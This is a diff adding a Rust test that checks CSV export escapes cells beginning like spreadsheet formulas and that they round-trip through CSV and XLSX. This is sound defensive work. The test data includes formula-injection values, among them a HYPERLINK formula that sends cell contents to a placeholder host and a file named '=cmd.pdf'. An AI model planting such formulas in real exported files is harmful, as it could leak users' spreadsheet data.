@@ -391,3 +391,72 @@ fn hand_sheet_typed(dir: &Path, code: &str, text: &str) -> std::path::PathBuf {
     std::fs::write(&path, crate::sheet::tests::one_sheet(&xml, &[], &[9])).unwrap();
     path
 }
+
+/// Notes, file names and references that start like a formula are text in
+/// the CSV (a spreadsheet does not run them) and come back unchanged.
+#[test]
+fn text_that_starts_like_a_formula_is_text_in_the_csv_and_round_trips() {
+    let dir = tempfile::tempdir().unwrap();
+    let (ws, a) = setup(dir.path());
+    let notes = [
+        ("P.1.iv.a", "=1+1"),
+        (
+            "P.1.ii.a",
+            "=HYPERLINK(\"http://contoh.invalid/?\"&A1;\"klik\")",
+        ),
+        ("P.1.ii.b", "'=1+1"),
+        ("P.1.ii.c", "@SUM(A1:A9)"),
+        ("P.1.iii.b", "+62 812 3456"),
+        ("P.1.iii.c", "-5 dari target"),
+    ];
+    for (item, note) in notes {
+        ws.set_note(&a, Role::Unit, item.parse().unwrap(), note)
+            .unwrap();
+    }
+    let file = dir.path().join("=cmd.pdf");
+    std::fs::write(&file, b"%PDF").unwrap();
+    ws.add_evidence_file(&a, "P.1.ii.a".parse().unwrap(), &file, None, None, None)
+        .unwrap();
+    ws.add_reference(&a, "P.1.ii.a".parse().unwrap(), "=SK 12", "")
+        .unwrap();
+    let csv = dir.path().join("lke.csv");
+    export_csv(&ws, &a, &csv, true).unwrap();
+    let text = std::fs::read_to_string(&csv).unwrap();
+    let mut reader = ::csv::ReaderBuilder::new()
+        .delimiter(b';')
+        .has_headers(false)
+        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    for record in reader.records() {
+        for cell in record.unwrap().iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a spreadsheet would run {cell:?}"
+            );
+        }
+    }
+    assert!(text.contains("'=1+1") && text.contains("''=1+1"), "{text}");
+    let log = ws.audit_log(Some(a.id)).unwrap().len();
+    let r = import_csv(&ws, &a, &csv, ImportRoles::Both).unwrap();
+    assert_eq!(
+        (r.changed_unit, r.changed_tpi, r.changed_references),
+        (0, 0, 0)
+    );
+    assert_eq!(ws.audit_log(Some(a.id)).unwrap().len(), log);
+    // An XLSX writes them as text cells (shared strings, never a formula;
+    // LibreOffice shows them as typed), and reads them back the same.
+    let xlsx = dir.path().join("lke.xlsx");
+    export_xlsx(&ws, &a, &xlsx, true).unwrap();
+    let r = import_xlsx(&ws, &a, &xlsx, ImportRoles::Both).unwrap();
+    assert_eq!(
+        (r.changed_unit, r.changed_tpi, r.changed_references),
+        (0, 0, 0)
+    );
+    let records = ws.answer_records(&a).unwrap();
+    for (item, note) in notes {
+        let r = records
+            .iter()
+            .find(|r| r.item.to_string() == item && r.role == Role::Unit)
+            .unwrap();
+        assert_eq!(r.note, note);
+    }
+}
